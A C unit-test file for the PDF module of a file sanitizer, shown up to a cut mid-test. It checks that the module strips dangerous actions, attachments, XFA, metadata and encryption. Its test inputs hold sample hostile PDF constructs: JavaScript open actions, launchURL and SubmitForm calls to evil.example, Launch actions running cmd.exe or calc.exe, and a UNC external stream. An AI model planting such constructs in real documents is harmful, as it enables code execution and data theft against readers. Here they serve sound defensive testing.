/* The PDF module: every removal, the cases that must be kept, encryption, repair, limits.
 * The PDFs are written here as text with a correct cross-reference table; outputs are
 * checked by re-reading them with qpdf and by looking for the removed keys in the bytes
 * (the inputs use neither object streams nor compression, so neither does the output). */
#include <qpdf/qpdf-c.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testutil.h"

/* ---- building PDFs ---- */

typedef struct pdfb {
	sk_buf b;
	size_t *off;
	size_t n, cap;
} pdfb;

static void pb_begin(pdfb *p)
{
	memset(p, 0, sizeof(*p));
	sk_buf_init(&p->b, 0);
	assert_int_equal(sk_buf_adds(&p->b, "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), 0);
}

static void pb_mark(pdfb *p)
{
	if (p->n == p->cap) {
		p->cap = p->cap ? p->cap * 2 : 64;
		p->off = realloc(p->off, p->cap * sizeof(*p->off));
		assert_non_null(p->off);
	}
	p->off[p->n++] = p->b.len;
}

/* The next object (numbered from 1 in call order). */
static void __attribute__((format(printf, 2, 3))) pb_obj(pdfb *p, const char *fmt, ...)
{
	pb_mark(p);
	assert_int_equal(sk_buf_printf(&p->b, "%zu 0 obj\n", p->n), 0);
	va_list ap;
	va_start(ap, fmt);
	assert_int_equal(sk_buf_vprintf(&p->b, fmt, ap), 0);
	va_end(ap);
	assert_int_equal(sk_buf_adds(&p->b, "\nendobj\n"), 0);
}

static void pb_stream(pdfb *p, const char *dict, const char *data)
{
	pb_mark(p);
	assert_int_equal(sk_buf_printf(&p->b, "%zu 0 obj\n<< /Length %zu %s >>\nstream\n%s\nendstream\nendobj\n",
				       p->n, strlen(data), dict, data),
			 0);
}

/* xref and trailer; the catalog is object 1. */
static void pb_end(pdfb *p, const char *trailer)
{
	size_t xref = p->b.len;
	assert_int_equal(sk_buf_printf(&p->b, "xref\n0 %zu\n0000000000 65535 f \n", p->n + 1), 0);
	for (size_t i = 0; i < p->n; i++)
		assert_int_equal(sk_buf_printf(&p->b, "%010zu 00000 n \n", p->off[i]), 0);
	assert_int_equal(sk_buf_printf(&p->b, "trailer\n<< /Size %zu /Root 1 0 R %s >>\nstartxref\n%zu\n%%%%EOF\n",
				       p->n + 1, trailer ? trailer : "", xref),
			 0);
	free(p->off);
	p->off = NULL;
}

/* Objects 2..4 of most tests: pages, one page (annots and extra page keys given), text. */
static void pb_page(pdfb *p, const char *annots, const char *extra)
{
	pb_obj(p, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
	pb_obj(p,
	       "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
	       "/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> "
	       "/Annots [%s] %s >>",
	       annots ? annots : "", extra ? extra : "");
	pb_stream(p, "", "BT /F1 24 Tf 72 700 Td (Hello sekisho) Tj ET");
}

/* ---- running and checking ---- */

static void run(pdfb *p, const sk_profile *prof, tu_run *r)
{
	sk_options o;
	sk_options_default(&o);
	if (prof)
		o.profile = prof;
	tu_process(p->b.data, p->b.len, "t.pdf", &o, r);
	sk_buf_free(&p->b);
}

static bool has(const tu_run *r, const char *s)
{
	return memmem(r->out.data, r->out.len, s, strlen(s)) != NULL;
}

static size_t occurrences(const sk_buf *b, const char *s)
{
	size_t c = 0, n = strlen(s);
	const uint8_t *p = b->data, *end = b->data + b->len;
	while (p && (p = memmem(p, (size_t)(end - p), s, n))) {
		c++;
		p += n;
	}
	return c;
}

static const sk_report_entry *entry(const tu_run *r, sk_action a, const char *what,
				    const char *detail)
{
	const sk_report *rep = &r->res.report;
	for (size_t i = 0; i < rep->n; i++)
		if (rep->v[i].action == a && !strcmp(rep->v[i].what, what) &&
		    (!detail || (rep->v[i].detail && !strcmp(rep->v[i].detail, detail))))
			return &rep->v[i];
	return NULL;
}

static uint64_t total(const tu_run *r, sk_action a, const char *what)
{
	uint64_t c = 0;
	const sk_report *rep = &r->res.report;
	for (size_t i = 0; i < rep->n; i++)
		if (rep->v[i].action == a && !strcmp(rep->v[i].what, what))
			c += rep->v[i].count;
	return c;
}

/* Re-reads a delivered output with qpdf: no error, no warning, not encrypted. Returns the
 * number of pages; *content (may be NULL) gets page 1's content (malloc'd). */
static int reread(const tu_run *r, char **content)
{
	assert_string_equal(sk_verdict_code(r->res.report.verdict) , r->res.report.n ? "sanitized" : "clean");
	qpdf_data q = qpdf_init();
	qpdf_silence_errors(q);
	qpdf_set_suppress_warnings(q, QPDF_TRUE);
	assert_int_equal(qpdf_read_memory(q, "out", (const char *)r->out.data, r->out.len, ""), 0);
	assert_false(qpdf_is_encrypted(q));
	int n = qpdf_get_num_pages(q);
	if (content) {
		unsigned char *buf = NULL;
		size_t len = 0;
		assert_int_equal(qpdf_oh_get_page_content_data(q, qpdf_get_page_n(q, 0), &buf, &len), 0);
		*content = calloc(1, len + 1);
		memcpy(*content, buf, len);
		free(buf);
	}
	assert_false(qpdf_has_error(q));
	assert_false(qpdf_more_warnings(q));
	qpdf_cleanup(&q);
	return n;
}

/* ---- tests ---- */

static void clean_page_with_link(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>");
	pb_page(&p, "5 0 R", NULL);
	pb_obj(&p, "<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] "
		   "/A << /S /URI /URI (https://example.jp/) >> >>");
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	assert_verdict(&r, SK_VERDICT_CLEAN);
	assert_int_equal(r.res.report.n, 0);
	char *c;
	assert_int_equal(reread(&r, &c), 1);
	assert_non_null(strstr(c, "(Hello sekisho) Tj"));
	free(c);
	assert_true(has(&r, "(https://example.jp/)"));
	assert_true(has(&r, "/OpenAction")); /* a destination is not an action */
	tu_free(&r);
}

/* The item's clock: looked at before qpdf reads, every 256 objects of the walk and
 * before writing. Past the deadline: limit-time; with time left: delivered. */
static void time_limit(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R >>");
	pb_page(&p, NULL, NULL);
	pb_end(&p, NULL);
	sk_budget b;
	tu_budget(&b, true);
	assert_int_equal(tu_direct(p.b.data, p.b.len, "t.pdf", &b, NULL), SK_REASON_LIMIT_TIME);
	tu_budget(&b, false);
	assert_int_equal(tu_direct(p.b.data, p.b.len, "t.pdf", &b, NULL), SK_REASON_NONE);
	sk_buf_free(&p.b);
}

static void open_action_javascript(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>");
	pb_page(&p, NULL, NULL);
	pb_obj(&p, "<< /Type /Action /S /JavaScript /JS (app.alert\\('open'\\)) >>");
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	const sk_report_entry *e = entry(&r, SK_ACTION_REMOVED, "open-action", "javascript");
	assert_non_null(e);
	assert_string_equal(e->where, "obj 1");
	assert_int_equal(reread(&r, NULL), 1);
	assert_false(has(&r, "/OpenAction"));
	assert_false(has(&r, "/JS"));
	assert_false(has(&r, "app.alert"));
	tu_free(&r);
}

/* /Next chains of an automatic action lose URIs and scripts; harmless links stay. */
static void open_action_chain(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ["
		   " << /S /URI /URI (http://track.example/) >> << /S /JavaScript /JS (x\\(\\)) >>"
		   " << /S /GoTo /D [3 0 R /FitH 700] >> ] >> >>");
	pb_page(&p, NULL, NULL);
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	assert_non_null(entry(&r, SK_ACTION_REMOVED, "open-action", "uri"));
	assert_non_null(entry(&r, SK_ACTION_REMOVED, "open-action", "javascript"));
	assert_int_equal(r.res.report.n, 2);
	assert_int_equal(reread(&r, NULL), 1);
	assert_true(has(&r, "/OpenAction"));
	assert_true(has(&r, "/FitH"));
	assert_false(has(&r, "track.example"));
	assert_false(has(&r, "/JavaScript"));
	tu_free(&r);
}

static void names_javascript(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 5 0 R >> >>");
	pb_page(&p, NULL, NULL);
	pb_obj(&p, "<< /Names [(a) 6 0 R] >>");
	pb_obj(&p, "<< /S /JavaScript /JS 7 0 R >>");
	pb_stream(&p, "", "app.launchURL('http://evil.example/', true);");
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	const sk_report_entry *e = entry(&r, SK_ACTION_REMOVED, "javascript", "JavaScript");
	assert_non_null(e);
	assert_string_equal(e->where, "obj 1");
	assert_int_equal(reread(&r, NULL), 1);
	assert_false(has(&r, "/JavaScript"));
	assert_false(has(&r, "launchURL"));
	tu_free(&r);
}

/* /AA on the catalog, a page and a form field: scripts and launches go, GoTo stays. */
static void additional_actions(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R /AA << /WC << /S /Launch /F (cmd.exe) >> >> "
		   "/AcroForm << /Fields [5 0 R] >> >>");
	pb_page(&p, "5 0 R",
		"/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> /C << /S /GoTo /D [3 0 R /Fit] >> >>");
	pb_obj(&p, "<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [72 500 200 530] /P 3 0 R "
		   "/AA << /K << /S /JavaScript /JS (event.rc=true) >> /F 6 0 R >> >>");
	pb_obj(&p, "<< /S /JavaScript /JS (AFNumber_Format\\(2\\)) >>");
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "additional-action"), 4);
	const sk_report_entry *e = entry(&r, SK_ACTION_REMOVED, "additional-action", "launch");
	assert_non_null(e);
	assert_string_equal(e->where, "obj 1");
	e = tu_find_where(&r.res.report, "page 1");
	assert_non_null(e);
	assert_string_equal(e->what, "additional-action");
	assert_int_equal(reread(&r, NULL), 1);
	assert_false(has(&r, "/JS"));
	assert_false(has(&r, "/Launch"));
	assert_false(has(&r, "AFNumber"));
	assert_int_equal(occurrences(&r.out, "/AA"), 1); /* the page's, with /C GoTo */
	assert_true(has(&r, "/GoTo"));
	tu_free(&r);
}

/* Click actions of links and widgets, one of each kind. */
static void link_actions(void **state)
{
	(void)state;
	static const char *const acts[] = {
		"<< /S /Launch /Win << /F (calc.exe) >> >>",
		"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>",
		"<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>",
		"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/submit) >> >>",
		"<< /S /ImportData /F (data.fdf) >>",
		"<< /S /Foo >>",
		"<< /S /Named /N /Print >>",
		"<< /S /Thread /F (other.pdf) /D 0 >>",
		"<< /S /Rendition /OP 0 >>",
		"<< /S /Named /N /NextPage >>", /* kept */
		"<< /S /GoTo /D [3 0 R /Fit] >>", /* kept */
	};
	const size_t n = sizeof(acts) / sizeof(acts[0]);
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R >>");
	char annots[256] = "";
	for (size_t i = 0; i < n; i++) {
		size_t l = strlen(annots);
		snprintf(annots + l, sizeof(annots) - l, "%zu 0 R ", 5 + i);
	}
	pb_page(&p, annots, NULL);
	for (size_t i = 0; i < n; i++)
		pb_obj(&p, "<< /Type /Annot /Subtype /Link /Rect [72 %zu 300 %zu] /A %s >>", 100 + 40 * i,
		       120 + 40 * i, acts[i]);
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "launch"), 1);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "remote-goto"), 3);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "submit-form"), 1);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "import-data"), 1);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "rich-media"), 1);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "action"), 2);
	assert_non_null(tu_find_where(&r.res.report, "obj 5"));
	assert_int_equal(reread(&r, NULL), 1);
	const char *gone[] = {"/Launch", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData",
			      "/Foo", "/Print", "/Thread", "/Rendition", "calc.exe"};
	for (size_t i = 0; i < sizeof(gone) / sizeof(gone[0]); i++)
		assert_false(has(&r, gone[i]));
	assert_true(has(&r, "/NextPage"));
	/* the annotations themselves (their rectangles) stay */
	assert_int_equal(occurrences(&r.out, "/Subtype /Link"), n);
	tu_free(&r);
}

/* Links: only http, https and mailto addresses stay; a stream fetched from a file goes. */
static void uri_schemes_and_external_streams(void **state)
{
	(void)state;
	static const char *const uris[] = {
		"file://server/share/x.pdf", "\\\\\\\\server\\\\share\\\\x", "javascript:app.alert(1)",
		"relative/page.html", "https://example.jp/ok", "HTTP://EXAMPLE.JP/ok2", "mailto:a@example.jp",
	};
	const size_t n = sizeof(uris) / sizeof(uris[0]);
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R >>");
	pb_page(&p, "5 0 R 6 0 R 7 0 R 8 0 R 9 0 R 10 0 R 11 0 R", "/Resources << /XObject << /Im1 12 0 R >> >>");
	for (size_t i = 0; i < n; i++)
		pb_obj(&p, "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (%s) >> >>",
		       uris[i]);
	pb_stream(&p, "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray "
		      "/BitsPerComponent 8 /F (\\\\\\\\evil\\\\share\\\\x.jpg) /FFilter /DCTDecode",
		  "\x80");
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "uri"), 4);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "external-link"), 1);
	assert_non_null(entry(&r, SK_ACTION_REMOVED, "external-link", "F"));
	assert_int_equal(reread(&r, NULL), 1);
	assert_false(has(&r, "server"));
	assert_false(has(&r, "javascript:"));
	assert_false(has(&r, "relative"));
	assert_false(has(&r, "evil"));
	assert_false(has(&r, "/FFilter"));
	assert_true(has(&r, "(https://example.jp/ok)"));
	assert_true(has(&r, "(HTTP://EXAMPLE.JP/ok2)"));
	assert_true(has(&r, "(mailto:a@example.jp)"));
	assert_int_equal(occurrences(&r.out, "/Subtype /Link"), n);
	tu_free(&r);
}

/* Outlines: a script on an item and on a /Next of a GoTo; cycles of /Next terminate. */
static void outlines_and_chains(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R /OpenAction 8 0 R >>");
	pb_page(&p, NULL, NULL);
	pb_obj(&p, "<< /Type /Outlines /First 6 0 R /Last 7 0 R /Count 2 >>");
	pb_obj(&p, "<< /Title (one) /Parent 5 0 R /Next 7 0 R "
		   "/A << /S /JavaScript /JS (this.print\\(\\)) >> >>");
	pb_obj(&p, "<< /Title (two) /Parent 5 0 R /Prev 6 0 R /A 8 0 R >>");
	/* 8 and 9 point at each other through /Next; 9 also runs a script */
	pb_obj(&p, "<< /S /GoTo /D [3 0 R /Fit] /Next 9 0 R >>");
	pb_obj(&p, "<< /S /GoTo /D [3 0 R /FitH 500] /Next [8 0 R << /S /JavaScript /JS (y) >>] >>");
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "javascript"), 1); /* the outline item */
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "open-action"), 1); /* in 9's /Next */
	assert_int_equal(r.res.report.n, 2); /* the outline items' /Next (siblings) stay */
	assert_int_equal(reread(&r, NULL), 1);
	assert_false(has(&r, "/JS"));
	assert_true(has(&r, "/Outlines"));
	assert_true(has(&r, "/OpenAction"));
	assert_true(has(&r, "/Title (two)"));
	assert_true(has(&r, "/Prev "));
	tu_free(&r);
}

/* Reference cycles among ordinary objects. */
static void reference_cycles(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R /X 5 0 R >>");
	pb_page(&p, NULL, "/Y 6 0 R");
	pb_obj(&p, "[5 0 R << /Self 5 0 R /Up 1 0 R >> 6 0 R]");
	pb_obj(&p, "<< /Me 6 0 R /Page 3 0 R /Arr 5 0 R >>");
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	assert_verdict(&r, SK_VERDICT_CLEAN);
	assert_int_equal(reread(&r, NULL), 1);
	tu_free(&r);
}

/* Rich media, attachments and embedded files, wherever they are. */
static void attachments_and_media(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >> "
		   "/Collection << /Type /Collection >> >>");
	pb_page(&p, "7 0 R 8 0 R 9 0 R 10 0 R 11 0 R", NULL);
	pb_obj(&p, "<< /Type /Filespec /F (x.exe) /UF (x.exe) /EF << /F 6 0 R >> >>");
	pb_stream(&p, "/Type /EmbeddedFile", "MZ not really a program");
	pb_obj(&p, "<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS 5 0 R >>");
	pb_obj(&p, "<< /Type /Annot /Subtype /RichMedia /Rect [10 40 30 60] >>");
	pb_obj(&p, "<< /Type /Annot /Subtype /Screen /Rect [10 70 30 90] >>");
	pb_obj(&p, "<< /Type /Annot /Subtype /3D /Rect [10 100 30 120] >>");
	/* a link to a file specification: the embedded stream hides in /EF */
	pb_obj(&p, "<< /Type /Annot /Subtype /Link /Rect [10 130 30 150] /Extra 5 0 R /Raw 6 0 R >>");
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "file-attachment"), 1);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "rich-media"), 3);
	assert_true(total(&r, SK_ACTION_REMOVED, "embedded-file") >= 3);
	const sk_report_entry *e = entry(&r, SK_ACTION_REMOVED, "file-attachment", NULL);
	assert_string_equal(e->where, "page 1");
	assert_int_equal(reread(&r, NULL), 1);
	const char *gone[] = {"/EmbeddedFile", "/EF", "/FileAttachment", "/RichMedia", "/Screen",
			      "/3D", "/Collection", "MZ not"};
	for (size_t i = 0; i < sizeof(gone) / sizeof(gone[0]); i++)
		assert_false(has(&r, gone[i]));
	assert_true(has(&r, "/Subtype /Link"));
	tu_free(&r);
}

static void xfa(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R /NeedsRendering true "
		   "/AcroForm << /Fields [] /XFA [(template) 5 0 R] >> >>");
	pb_page(&p, NULL, NULL);
	pb_stream(&p, "", "<template><script>app.alert(2)</script></template>");
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	assert_non_null(entry(&r, SK_ACTION_REMOVED, "xfa", "XFA"));
	assert_int_equal(reread(&r, NULL), 1);
	assert_false(has(&r, "/XFA"));
	assert_false(has(&r, "/NeedsRendering"));
	assert_false(has(&r, "<template>"));
	assert_true(has(&r, "/AcroForm"));
	tu_free(&r);
}

/* The strict profile neutralises links: the action goes, the annotation stays. */
static void links_neutralized(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R >>");
	pb_page(&p, "5 0 R", NULL);
	pb_obj(&p, "<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] "
		   "/A << /S /URI /URI (https://example.jp/) >> >>");
	pb_end(&p, NULL);
	tu_run r;
	run(&p, sk_profile_find("strict"), &r);
	const sk_report_entry *e = entry(&r, SK_ACTION_NEUTRALIZED, "uri", "A");
	assert_non_null(e);
	assert_string_equal(e->where, "obj 5");
	assert_int_equal(reread(&r, NULL), 1);
	assert_false(has(&r, "example.jp"));
	assert_false(has(&r, "/URI"));
	assert_true(has(&r, "/Subtype /Link"));
	assert_true(has(&r, "/Rect [ 72 690 300 720 ]"));
	tu_free(&r);
}

static void metadata(void **state)
{
	(void)state;
	for (int strip = 0; strip <= 1; strip++) {
		sk_profile prof = *sk_profile_default();
		prof.strip_metadata = strip;
		pdfb p;
		pb_begin(&p);
		pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R /Metadata 5 0 R >>");
		pb_page(&p, NULL, "/PieceInfo << /Illustrator << /Private (secret) >> >>");
		pb_stream(&p, "/Type /Metadata /Subtype /XML", "<x:xmpmeta>Taro Yamada</x:xmpmeta>");
		pb_obj(&p, "<< /Author (Hanako Suzuki) /Producer (Ichitaro) >>");
		pb_end(&p, "/Info 6 0 R");
		tu_run r;
		run(&p, &prof, &r);
		if (strip) {
			assert_non_null(entry(&r, SK_ACTION_REMOVED, "metadata", "Info"));
			assert_non_null(entry(&r, SK_ACTION_REMOVED, "metadata", "Metadata"));
			assert_non_null(entry(&r, SK_ACTION_REMOVED, "metadata", "PieceInfo"));
		} else {
			assert_verdict(&r, SK_VERDICT_CLEAN);
		}
		assert_int_equal(reread(&r, NULL), 1);
		assert_int_equal(has(&r, "Taro Yamada"), !strip);
		assert_int_equal(has(&r, "Hanako Suzuki"), !strip);
		assert_int_equal(has(&r, "/Producer"), !strip);
		assert_int_equal(has(&r, "secret"), !strip);
		tu_free(&r);
	}
}

/* Dangerous actions and lone /JS keys under keys no viewer is documented to run. */
static void hidden_anywhere(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R /Odd [5 0 R << /S /Launch /F (a.exe) >>] >>");
	pb_page(&p, NULL, "/Foo << /S /JavaScript /JS (x) >>");
	pb_obj(&p, "<< /Whatever << /JS (y) >> >>");
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "javascript"), 2);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "launch"), 1);
	assert_int_equal(reread(&r, NULL), 1);
	assert_false(has(&r, "/JS"));
	assert_false(has(&r, "a.exe"));
	tu_free(&r);
}

/* Encrypts pdf with qpdf (AES-256). */
static void encrypt(sk_buf *pdf, const char *user, const char *owner)
{
	qpdf_data q = qpdf_init();
	qpdf_silence_errors(q);
	qpdf_set_suppress_warnings(q, QPDF_TRUE);
	assert_int_equal(qpdf_read_memory(q, "in", (const char *)pdf->data, pdf->len, ""), 0);
	assert_int_equal(qpdf_init_write_memory(q), 0);
	qpdf_set_r6_encryption_parameters2(q, user, owner, QPDF_TRUE, QPDF_TRUE, QPDF_TRUE,
					   QPDF_TRUE, QPDF_TRUE, QPDF_TRUE, qpdf_r3p_full, QPDF_TRUE);
	assert_int_equal(qpdf_write(q) & QPDF_ERRORS, 0);
	sk_buf_reset(pdf);
	assert_int_equal(sk_buf_add(pdf, qpdf_get_buffer(q), qpdf_get_buffer_length(q)), 0);
	qpdf_cleanup(&q);
}

static void encrypted(void **state)
{
	(void)state;
	for (int user = 0; user <= 1; user++) {
		pdfb p;
		pb_begin(&p);
		pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R >>");
		pb_page(&p, NULL, NULL);
		pb_end(&p, NULL);
		encrypt(&p.b, user ? "user" : "", "owner");
		assert_null(memmem(p.b.data, p.b.len, "Hello", 5));
		tu_run r;
		run(&p, NULL, &r);
		if (user) {
			assert_verdict(&r, SK_VERDICT_BLOCKED);
			assert_reason(&r, SK_REASON_ENCRYPTED);
		} else {
			assert_non_null(entry(&r, SK_ACTION_REMOVED, "encryption", NULL));
			char *c;
			assert_int_equal(reread(&r, &c), 1);
			assert_non_null(strstr(c, "(Hello sekisho) Tj"));
			free(c);
			assert_false(has(&r, "/Encrypt"));
		}
		tu_free(&r);
	}
}

/* Certificate (public-key) security handlers cannot be opened either. */
static void encrypted_pubsec(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R >>");
	pb_page(&p, NULL, NULL);
	pb_obj(&p, "<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /R 4 /Recipients [<00>] >>");
	pb_end(&p, "/Encrypt 5 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]");
	tu_run r;
	run(&p, NULL, &r);
	assert_verdict(&r, SK_VERDICT_BLOCKED);
	assert_reason(&r, SK_REASON_ENCRYPTED);
	tu_free(&r);
}

/* Wrong xref offsets: qpdf rebuilds the table; the output is whole again. */
static void repaired(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	size_t head = p.b.len;
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R >>");
	pb_page(&p, NULL, NULL);
	pb_end(&p, NULL);
	/* a comment after the header that no offset counts */
	static const char junk[] = "% some junk the offsets do not count\n";
	sk_buf b;
	sk_buf_init(&b, 0);
	assert_int_equal(sk_buf_add(&b, p.b.data, head), 0);
	assert_int_equal(sk_buf_adds(&b, junk), 0);
	assert_int_equal(sk_buf_add(&b, p.b.data + head, p.b.len - head), 0);
	sk_buf_free(&p.b);
	p.b = b;
	tu_run r;
	run(&p, NULL, &r);
	const sk_report_entry *e = entry(&r, SK_ACTION_REPAIRED, "structure", NULL);
	assert_non_null(e);
	assert_true(e->count >= 1);
	char *c;
	assert_int_equal(reread(&r, &c), 1);
	assert_non_null(strstr(c, "Hello sekisho"));
	free(c);
	tu_free(&r);
}

static void malformed(void **state)
{
	(void)state;
	static const char *const bad[] = {
		"%PDF-1.4\nthis is not a PDF at all\n",
		"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
		"%PDF-1.7\n",
		/* offsets that point at the header: qpdf finds no catalog */
		"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\nxref\n0 2\n"
		"0000000000 65535 f \n0000000000 00000 n \ntrailer\n<< /Size 2 /Root 1 0 R >>\n"
		"startxref\n62\n%%EOF\n",
		/* a catalog and a page tree, but no page */
		"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
		"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
		"trailer\n<< /Root 1 0 R >>\n%%EOF\n",
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		tu_run r;
		tu_process(bad[i], strlen(bad[i]), "bad.pdf", NULL, &r);
		assert_verdict(&r, SK_VERDICT_BLOCKED);
		assert_reason(&r, SK_REASON_MALFORMED);
		tu_free(&r);
	}
}

/* The damaged PDF's second chance: a convert hook that makes images (the office pool in
 * the gate; a fake here) */
typedef struct fake_render {
	int calls;
	bool fail;
	sk_convert got;
	const char *reply;
} fake_render;

static int fake_image(void *ctx, sk_convert *c, const uint8_t *p, size_t n, const sk_budget *b,
		      sk_buf *out, sk_reason *reason, sk_error *err)
{
	(void)p;
	(void)n;
	(void)b;
	fake_render *f = ctx;
	f->calls++;
	f->got = *c;
	if (f->fail) {
		*reason = SK_REASON_LIMIT_TIME;
		return sk_error_set(err, SK_EFORMAT, "poppler: too slow");
	}
	c->pages = 1;
	return sk_buf_adds(out, f->reply);
}

/* A page tree whose /Kids holds the tree itself: qpdf refuses it ("loop"), poppler skips
 * the loop and renders the page. Blocked malformed without 画像化; with it, delivered
 * through the hook as an image PDF (rebuilt by this module); the hook's failure leaves
 * it malformed; a profile without damaged_pdf_image never asks. */
static void damaged_second_chance(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R >>");
	pb_obj(&p, "<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 1 >>");
	pb_obj(&p, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>");
	pb_end(&p, NULL);
	tu_run r;
	tu_process(p.b.data, p.b.len, "loop.pdf", NULL, &r);
	assert_reason(&r, SK_REASON_MALFORMED); /* no hook */
	tu_free(&r);
	fake_render f = {.reply = "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
				  "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
				  "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] "
				  "/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >> >> endobj\n"
				  "trailer << /Root 1 0 R >>\n%%EOF\n"};
	sk_options opt;
	sk_options_default(&opt);
	opt.convert = fake_image;
	opt.convert_ctx = &f;
	assert_true(sk_profile_default()->damaged_pdf_image);
	assert_true(sk_profile_find("strict")->damaged_pdf_image);
	tu_process(p.b.data, p.b.len, "loop.pdf", &opt, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_int_equal(f.calls, 1);
	assert_int_equal(f.got.target, SK_CONVERT_IMAGE);
	assert_string_equal(f.got.from, "pdf");
	assert_string_equal(r.res.report.out_ext, "pdf");
	assert_non_null(entry(&r, SK_ACTION_CONVERTED, "image", NULL));
	bool damaged = false;
	for (size_t i = 0; i < r.res.report.n; i++)
		damaged = damaged || (r.res.report.v[i].detail &&
				      strstr(r.res.report.v[i].detail, "pdf→pdf (damaged)"));
	assert_true(damaged);
	/* what came back went through this module: its JavaScript is gone */
